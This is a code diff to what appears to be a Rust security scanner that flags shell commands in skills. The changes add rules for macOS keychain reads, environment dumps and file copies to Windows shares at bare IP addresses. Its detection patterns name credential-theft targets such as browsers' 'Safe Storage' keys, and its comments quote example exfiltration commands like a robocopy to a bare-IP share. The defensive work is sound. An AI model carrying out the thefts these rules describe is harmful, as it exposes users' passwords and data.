@@ -394,12 +394,20 @@ pub(super) fn command_rules(
                 )
             }) =>
         {
+            // One item the skill names for itself (`-s acme-token`) is how
+            // a tool keeps its own key; the whole keychain, or another
+            // program's item (a browser's "Safe Storage" key), is theft.
+            let own = own_keychain_item(cmd.args);
             ctx.report(
                 unit,
                 id::CredentialStoreRead,
-                Severity::High,
+                if own { Severity::Low } else { Severity::High },
                 span.clone(),
-                "reads passwords out of the macOS keychain".into(),
+                if own {
+                    "reads the skill's own item out of the macOS keychain".into()
+                } else {
+                    "reads passwords out of the macOS keychain".into()
+                },
             );
         }
         "spctl" | "csrutil" | "setenforce" | "ufw" | "auditctl" => {
@@ -499,6 +507,7 @@ pub(super) fn command_rules(
         _ => {}
     }
     transports_and_damage(ctx, unit, cmd, text, mode);
+    unc_copy(ctx, unit, cmd, span.clone());
     if cmd.sudo_stdin {
         ctx.report(
             unit,
@@ -531,8 +540,9 @@ pub(super) fn command_rules(
                 | "setfacl"
                 | "restorecon"
         )
-        && let Some(store) =
-            read_args(cmd).find_map(|a| store_in(&a.text).map(|s| (a, s.to_string())))
+        && let Some(store) = read_args(cmd)
+            .filter(|a| !names_kinds(&a.text))
+            .find_map(|a| store_in(&a.text).map(|s| (a, s.to_string())))
     {
         let weak = store.1.trim_start_matches(['.', '/']).starts_with("env")
             || sensitive::in_project(&store.0.text, "")
@@ -550,8 +560,24 @@ pub(super) fn command_rules(
             format!("reads the credential store `{}`", store.1),
         );
     }
+    // `env` as the command or a substitution, not a word of another's
+    // (`bws secret list --output env`); written to a file, not to a
+    // placeholder's `>` (`railway run -p <project-id> -- env | grep X`).
+    let env_command = cmd.words.windows(2).any(|w| {
+        matches!(w[1].text.as_str(), "env" | "printenv")
+            && (!w[0].text.starts_with('-') || w[0].text == "--")
+    }) || ["$(env", "$(printenv", "`env", "`printenv", "export -p"]
+        .iter()
+        .any(|s| text.contains(s));
+    let placeholder = cmd
+        .command
+        .redirects
+        .iter()
+        .any(|r| r.op == "<" && text.contains(&format!("<{}>", r.target.text)));
     if sensitive::dumps_environment(text)
-        && (cmd.command.redirects.iter().any(|r| r.op.starts_with('>')) || is_in_assignment(text))
+        && env_command
+        && (!placeholder && cmd.command.redirects.iter().any(|r| r.op.starts_with('>'))
+            || is_in_assignment(text))
     {
         let severity = if mode == Mode::Inline {
             Severity::Low
@@ -703,4 +729,97 @@ pub(super) fn heredoc(
             }
         }
     }
+}
+
+/// Whether `security` reads one generic item the skill names by its
+/// service (`find-generic-password -s acme-token -w`), not another
+/// program's key (a browser's or a chat client's "Safe Storage", which
+/// unlocks its cookies and passwords) nor the keychain as a whole.
+fn own_keychain_item(args: &[Word]) -> bool {
+    const OTHERS: &[&str] = &[
+        "safe storage",
+        "chrome",
+        "chromium",
+        "brave",
+        "vivaldi",
+        "firefox",
+        "safari",
+        "slack",
+        "discord",
+        "signal",
+        "telegram",
+        "whatsapp",
+        "icloud",
+        "airport",
+        "wifi",
+        "wi-fi",
+        "1password",
+        "keychain",
+    ];
+    let generic = args.iter().any(|a| a.text == "find-generic-password");
+    let service = args
+        .windows(2)
+        .find(|w| w.first().is_some_and(|f| f.text == "-s"))
+        .and_then(|w| w.get(1))
+        .map(|w| w.text.to_ascii_lowercase());
+    generic
+        && !args.iter().any(|a| a.text == "dump-keychain")
+        && service.is_some_and(|s| {
+            !s.is_empty() && !s.starts_with('-') && !OTHERS.iter().any(|o| s.contains(o))
+        })
+}
+
+/// Whether a word names kinds of files rather than one: a regular
+/// expression (`'id_rsa$|id_ecdsa$'`, `\.pem`), or public keys
+/// (`~/.ssh/id_*.pub`), which hold nothing secret.
+fn names_kinds(word: &str) -> bool {
+    word.contains('|') && !word.contains(char::is_whitespace)
+        || word.ends_with('$')
+        || word.contains("\\.")
+        || word.ends_with(".pub")
+}
+
+/// Files copied to a Windows share at a bare address or a collector
+/// (`robocopy "%OUT%" \\203.0.113.250\acct`, `copy f \\host\s`): an upload
+/// no named service receives. Mapping the share (`net use`) is a question.
+fn unc_copy(ctx: &mut Ctx<'_>, unit: &Unit<'_>, cmd: &super::cmd::Cmd<'_>, span: Range<usize>) {
+    let copies = matches!(
+        cmd.name.as_str(),
+        "robocopy" | "xcopy" | "copy" | "move" | "copy-item" | "move-item" | "cp"
+    );
+    let maps = cmd.name == "net" && cmd.args.first().is_some_and(|a| a.text == "use");
+    if !copies && !maps {
+        return;
+    }
+    // The word as written: a shell's unquoting would eat the backslashes
+    // cmd.exe keeps.
+    let Some(host) = cmd.args.iter().find_map(|a| {
+        let raw = unit
+            .text
+            .get(a.span.clone())?
+            .trim_start_matches(['"', '\'']);
+        let rest = raw.strip_prefix("\\\\")?;
+        let host = rest.split(['\\', '/']).next()?.to_ascii_lowercase();
+        (net::is_bare_ip(&host) || net::is_collector(&host)).then_some(host)
+    }) else {
+        return;
+    };
+    if net::is_local(&host) {
+        return;
+    }
+    let (severity, verb) = if copies {
+        (Severity::High, "copies files to")
+    } else {
+        (Severity::Medium, "maps")
+    };
+    ctx.report(
+        unit,
+        id::CollectorEndpoint,
+        severity,
+        span,
+        format!(
+            "`{}` {verb} a Windows share at `{host}`, a bare address",
+            cmd.name
+        ),
+    );
 }
